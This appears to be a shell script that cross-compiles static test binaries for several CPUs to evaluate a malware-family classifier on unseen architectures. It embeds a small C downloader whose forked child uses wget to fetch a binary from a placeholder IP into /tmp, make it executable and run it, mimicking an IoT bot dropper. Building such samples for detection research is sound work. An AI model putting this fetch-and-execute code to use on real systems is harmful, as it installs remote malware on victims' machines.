#!/bin/sh
# Static, stripped test programs for CPUs and C libraries outside the shared corpora, to check
# tx2 on files it was not tuned on (benchmarks/eval_extra.py).  Needs Debian's cross compilers:
#   apt-get install gcc-riscv64-linux-gnu gcc-hppa-linux-gnu gcc-alpha-linux-gnu \
#                   libc6-dev-riscv64-cross libc6-dev-hppa-cross libc6.1-dev-alpha-cross musl-tools
# (musl-tools: amd64 builds on musl, folder musl-amd64, which eval_extra.py also evaluates with
# musl left out of the data: a C library that nothing in the data comes from)
# Usage: sh benchmarks/build_extra_static.sh OUTDIR   (big outputs: keep OUTDIR out of git)
set -eu
out=${1:?usage: build_extra_static.sh OUTDIR}
src=$(cd "$(dirname "$0")/../.." && pwd)/shared/corpus/iot-src
[ -d "$src" ] || src=${IOT_SRC:?set IOT_SRC to the shared corpus iot-src folder}
mkdir -p "$out/src"
# a tiny downloader: three strings, one of them naming the CPU it was built for
cat > "$out/src/dl.c" <<'C'
#include <stdlib.h>
#include <unistd.h>
int main(void) {
    if (fork() == 0) { system("cd /tmp && wget http://198.51.100.7/bins/" CPU " -O .x && chmod +x .x && ./.x"); _exit(0); }
    write(1, "ok\n", 3);
    return 0;
}
C
for cc in gcc riscv64-linux-gnu-gcc hppa-linux-gnu-gcc alpha-linux-gnu-gcc musl-gcc; do
    command -v "$cc" >/dev/null || { echo "skip $cc (not installed)"; continue; }
    case $cc in gcc) cpu=amd64;; musl-gcc) cpu=musl-amd64;; *) cpu=${cc%%-*};; esac
    mkdir -p "$out/$cpu"
    for opt in -O2 -Os; do
        for fam in fam_a fam_b; do
            "$cc" $opt -static -s -o "$out/$cpu/${fam}_v1$opt" "$src/$fam.c"
            "$cc" $opt -DVARIANT2 -static -s -o "$out/$cpu/${fam}_v2$opt" "$src/$fam.c"
        done
        "$cc" $opt -DCPU="\"$cpu\"" -static -s -o "$out/$cpu/dl$opt" "$out/src/dl.c"
    done
done
ls "$out"/*/ | head -50
